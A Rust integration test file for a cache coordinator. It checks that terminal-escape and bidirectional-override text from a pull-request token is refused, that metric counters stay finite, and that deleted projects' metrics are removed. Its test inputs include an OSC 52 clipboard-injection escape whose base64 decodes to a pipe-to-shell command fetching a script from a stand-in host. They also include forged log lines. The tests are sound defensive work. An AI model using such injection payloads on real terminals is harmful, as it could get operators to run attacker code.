//! What a less trusted token writes that an operator reads: text that reaches `cachectl show`
//! (refused when a terminal would act on it, escaped when stored before that rule), and metric
//! reports that could break the series every project shares (an infinite throughput, a counter
//! that wraps) or outlive their project.

use proto::v1 as pb;
use tests::{CoordinatorProcess, begin_one_layer_save, one_layer_image, stderr_of, stdout_of, upload_one_layer_blobs};

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn text_a_pull_request_sends_never_reaches_the_operators_terminal_raw() {
    let data_dir = tempfile::tempdir().unwrap();
    let coordinator = CoordinatorProcess::start(data_dir.path(), &[]);
    coordinator.create_project("web");
    // A token of web that writes pr-* and reads main, as a fork's pull request gets.
    let pr = tests::printed_token(&coordinator.cachectl(&tests::scoped_token_args("web", "pr-*", "main")));
    let mut client = tests::worker_client(&coordinator.grpc_url, &pr).await;
    let content = b"a pull request's layer";
    let begin = |engine_version: &str| {
        let mut request = begin_one_layer_save("app", "app:pr", content);
        request.key = Some(pb::CacheKey { service: "app".into(), branch: "pr-1".into() });
        request.engine_version = engine_version.into();
        request
    };

    // An OSC 52 clipboard write as the engine's version, a bidirectional override: refused.
    for version in ["28.5\u{1b}]52;c;Y3VybCBldmlsLnNoIHwgc2g=\u{7}", "\u{202e}5.82", "28.5\n"] {
        let refused = client.begin_save(begin(version)).await.unwrap_err();
        assert_eq!(refused.code(), tonic::Code::InvalidArgument, "{version:?}: {refused:?}");
        assert!(refused.message().contains("an engine version has at most"), "{}", refused.message());
        assert!(!refused.message().contains('\u{1b}') && !refused.message().contains('\n'), "{refused:?}");
    }
    let begun = client.begin_save(begin("28.5.2")).await.unwrap().into_inner();
    upload_one_layer_blobs(begun.credentials.as_ref().unwrap(), content).await;
    let commit = |save_log: Vec<String>| pb::CommitSaveRequest {
        save_id: begun.save_id.clone(),
        images: vec![one_layer_image("app:pr", content, true)],
        save_log,
    };

    // A log line that clears the screen, or forges a line of the coordinator's own: refused,
    // and the save stays open for a clean commit.
    for forged in
        ["\u{1b}[2J\u{1b}[Hall clear", "fine\nsaved from ci-main-1 by save 0123456789ab", "x\ry", "\u{202e}1-niam-ic"]
    {
        let refused = client.commit_save(commit(vec!["image ok".into(), forged.into()])).await.unwrap_err();
        assert_eq!(refused.code(), tonic::Code::InvalidArgument, "{forged:?}: {refused:?}");
        assert!(refused.message().contains("no control or bidirectional-override"), "{}", refused.message());
    }
    let long = "é".repeat(proto::save_log::MAX_SAVE_LOG_LINE);
    let refused = client.commit_save(commit(vec![long])).await.unwrap_err();
    assert_eq!(refused.code(), tonic::Code::InvalidArgument, "a line past the bound: {refused:?}");
    let committed = client.commit_save(commit(vec!["image sha256:ab (app:pr; classic builder)".into()])).await;
    assert!(committed.is_ok(), "{committed:?}");

    let shown = coordinator.cachectl(&["show", "web", "app", "--branch", "pr-1"]);
    assert!(shown.status.success(), "{}", stderr_of(&shown));
    let shown = stdout_of(&shown);
    assert!(shown.contains("engine 28.5.2,") && shown.contains("log: image sha256:ab (app:pr"), "{shown}");
    assert!(!shown.chars().any(|c| c.is_control() && c != '\n'), "{shown:?}");
    coordinator.stop();
}

/// One restore's report that moved `layers` layers of `bytes` each in `total_seconds`.
fn restore_report(layers: usize, bytes: u64, total_seconds: f64) -> pb::ReportMetricsRequest {
    let layer = pb::LayerMetric {
        digest: format!("sha256:{}", "cd".repeat(32)),
        bytes,
        seconds: 0.5,
        outcome: pb::LayerOutcome::Transferred as i32,
    };
    pb::ReportMetricsRequest {
        service: "app".into(),
        operation: pb::Operation::Restore as i32,
        restore_outcome: pb::RestoreOutcome::Hit as i32,
        layers: vec![layer; layers],
        total_seconds,
        ..Default::default()
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn reports_a_read_only_token_sends_keep_every_shared_series_finite_and_monotonic() {
    let data_dir = tempfile::tempdir().unwrap();
    let coordinator = CoordinatorProcess::start(data_dir.path(), &[]);
    coordinator.create_project("web");
    let reader = tests::printed_token(&coordinator.cachectl(&["token", "create", "web", "--read-branch", "pr-*"]));
    let mut client = tests::worker_client(&coordinator.grpc_url, &reader).await;
    let throughput_sum = "layer_cache_transfer_throughput_bytes_per_second_sum{operation=\"restore\"}";

    // The smallest positive duration: a real number, so the report is taken, but the
    // throughput it implies is not.
    client.report_metrics(restore_report(1, 1 << 20, 5e-324)).await.unwrap();
    let sum = coordinator.metric(throughput_sum).expect("the throughput histogram");
    assert!(sum.is_finite() && sum > 0.0, "throughput sum {sum}");

    // Layers as large as one blob may be: eleven such reports sum past u64::MAX.
    let bytes =
        "layer_cache_layer_bytes_total{project=\"web\",service=\"app\",operation=\"restore\",outcome=\"transferred\"}";
    let mut last = coordinator.metric(bytes).unwrap();
    for _ in 0..11 {
        let report = restore_report(40_000, proto::parts::MAX_BLOB_SIZE, 3600.0);
        client.report_metrics(report).await.unwrap();
        let now = coordinator.metric(bytes).unwrap();
        assert!(now >= last, "the byte counter went back from {last} to {now}");
        last = now;
    }
    assert_eq!(last, u64::MAX as f64, "the counter stops at its largest value");
    let stats = stdout_of(&coordinator.cachectl(&["stats", "web"]));
    assert!(stats.contains("16777216.0 TiB"), "{stats}");
    coordinator.stop();
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_deleted_projects_series_leave_the_metrics_with_it() {
    let data_dir = tempfile::tempdir().unwrap();
    let coordinator = CoordinatorProcess::start(data_dir.path(), &[]);
    coordinator.create_project("web");
    let token = coordinator.create_project("gone");
    tests::save_one_layer_image(&coordinator.grpc_url, &token, "app", "app:1", b"a layer of gone").await;
    let mut client = tests::worker_client(&coordinator.grpc_url, &token).await;
    client.report_metrics(restore_report(1, 1024, 1.0)).await.unwrap();
    let metrics_url = format!("{}/metrics", coordinator.metrics_url);
    let (_, before) = tests::http_get(&metrics_url);
    let series = |text: &str| text.lines().filter(|line| line.contains("project=\"gone\"")).count();
    assert!(series(&before) >= 8, "{before}");

    let deleted = coordinator.cachectl(&["project", "delete", "gone"]);
    assert!(deleted.status.success(), "{}", stderr_of(&deleted));
    let (_, after) = tests::http_get(&metrics_url);
    assert_eq!(series(&after), 0, "{after}");
    assert!(after.contains("project=\"web\""), "another project's series stay: {after}");
    coordinator.stop();
}
